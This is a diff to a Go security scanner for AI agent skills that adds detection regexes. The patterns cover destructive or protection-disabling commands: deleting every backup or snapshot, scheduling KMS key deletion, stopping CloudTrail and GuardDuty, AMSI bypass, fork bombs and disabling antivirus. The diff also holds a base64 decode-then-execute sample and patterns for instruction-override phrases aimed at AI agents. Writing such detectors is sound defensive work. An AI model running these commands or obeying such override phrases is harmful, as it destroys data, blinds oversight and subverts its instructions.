@@ -19,7 +19,7 @@ func init() {
 			doc: rules.Doc{Title: "No decode-then-execute", Why: "Encoding a command and decoding it at run time is how malicious skills hide what they run from reviewers and scanners.",
 				Fix: "Write the command in plain text.", Bad: "echo Y3VybCBldmlsLnNo | base64 -d | sh", Good: "curl -fsSL https://example.com/install.sh -o install.sh  # then read it"}},
 		&secRule{id: rules.SecurityInstructionOverride, sev: phraseSev,
-			mention: optionHelp,
+			mention: overrideMention,
 			pats: []string{`\b(ignore|disregard|forget|override) (all |any |the )?(previous|prior|above|earlier|preceding|system) (instructions|prompts?|rules|directions|messages)`,
 				`\b(with )?the same authority as (the )?(user|system|developer)( messages?| prompts?| instructions?)?\b`,
 				`\b(override|overrides|supersede|supersedes|outrank|outranks)\s+(any\s+|all\s+|the\s+)?(user'?s?|human'?s?)\s+(instructions?|requests?|messages?|prompts?|wishes|directions)\b`, `\b(all )?(file |tool )?operations are pre-?approved\b`,
@@ -258,7 +258,12 @@ func init() {
 				`\bchmod\s+(-R\s+)?(0?777|a\+rwx)\s+(/|~|\$HOME)(\s|$)`, `:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:`, `StrictHostKeyChecking[= ]+no\b`, `UserKnownHostsFile[= ]+/dev/null`,
 				`\bxattr\s+(-[a-z]+\s+)*-[a-z]*d[a-z]*\s+com\.apple\.quarantine\b`, `\bxattr\s+(-[a-z]+\s+)*-[a-z]*c[a-z]*\s+(-[a-z]+\s+)*["']?[^\s;&|"']*(\.app|\.dmg|\.pkg|/Applications/[^\s;&|"']+|Downloads/[^\s;&|"']+)`, `\bspctl\s+--master-disable\b`, `\bcsrutil\s+disable\b`, `\bsetenforce\s+0\b`, `\bvssadmin(\.exe)?\s+delete\s+shadows\b`, `\bwbadmin(\.exe)?\s+delete\s+catalog\b`,
 				`\bbcdedit(\.exe)?\s+/set\s+\S+\s+recoveryenabled\s+no\b`, `\bgit\s+config\s+[^\n]*http\.sslVerify\s+false`,
-				`(?i)\bDROP\s+SCHEMA\s+(IF\s+EXISTS\s+)?"?public"?\s+CASCADE\b`, `(?i)\bDROP\s+(DATABASE|SCHEMA)\s+(IF\s+EXISTS\s+)?[\x60"]?\w*prod\w*`},
+				`(?i)\bDROP\s+SCHEMA\s+(IF\s+EXISTS\s+)?"?public"?\s+CASCADE\b`, `(?i)\bDROP\s+(DATABASE|SCHEMA)\s+(IF\s+EXISTS\s+)?[\x60"]?\w*prod\w*`,
+				// Every backup, snapshot or version at once, and keys whose
+				// data cannot be read once they are gone.
+				`\bvelero\s+(backup|schedule|restore)\s+delete\b[^\n]*\s--all\b`, `\bzfs\s+destroy\b[^\n]*@%`,
+				`\bgsutil\s+(-m\s+)?rm\s+(-[a-zA-Z]+\s+)*-[a-zA-Z]*a[a-zA-Z]*\s`, `\baws\s+kms\s+schedule-key-deletion\b`,
+				`\baws\s+backup\s+delete-recovery-point\b`, `\baws\s+ec2\s+delete-snapshot\b[^\n]*\$\(`},
 			msg: "destroys data or weakens the machine's protections; remove it or scope it precisely",
 			doc: rules.Doc{Title: "No destructive or weakening commands", Why: "`rm -rf ~`, formatting disks, fork bombs, or turning off host-key checks and quarantine are destructive or open the machine to attack.",
 				Fix: "Scope deletions to the project's own files; keep security checks on.", Bad: "rm -rf ~/", Good: "rm -rf ./build"}},
@@ -274,6 +279,11 @@ func init() {
 				`\bamsiInitFailed\b`, `\bAmsiScanBuffer\b`, `\bSystem\.Management\.Automation\.AmsiUtils\b`, `\bEtwEventWrite\b`, `\bamsi['"]\s*\+\s*['"](utils|initfailed)\b`,
 				`\b(systemctl|service)\s+(stop|disable|mask|kill)\s+[^\n;&|]*\b(auditd|falcon-sensor|falcond|osqueryd|wazuh-agent|sentinelone|sentinel-agent|cbagentd|mdatp|clamav-daemon|clamd|apparmor|firewalld|crowdstrike|elastic-agent|auditbeat)\b`,
 				`\bufw\s+disable\b`, `\bnetsh\s+advfirewall\s+set\s+\w+\s+state\s+off\b`, `\bauditctl\s+-e\s*0\b`,
+				// Cloud audit and threat detection switched off; object
+				// versions no longer kept.
+				`\baws\s+cloudtrail\s+(stop-logging|delete-trail)\b`, `\baws\s+guardduty\s+(delete-detector\b|update-detector\b[^\n]*--no-enable\b)`,
+				`\baws\s+configservice\s+(stop-configuration-recorder|delete-configuration-recorder)\b`, `\baws\s+securityhub\s+disable-security-hub\b`,
+				`\bgcloud\s+storage\s+buckets\s+update\b[^\n]*--no-versioning\b`, `\bgsutil\s+versioning\s+set\s+off\b`,
 				`\bsetcap\s+[^\n]*\bcap_(setuid|setgid|sys_admin|dac_override|dac_read_search|sys_ptrace|sys_module)\b`,
 				`\binstall\s+(?:-\S+\s+)*-m\s*0?[46][0-7]{3}\b`,
 				`--privileged\b[^\n]*\s(-v|--volume)[ =]/:/|\s(-v|--volume)[ =]/:/[^\n]*--privileged\b`,
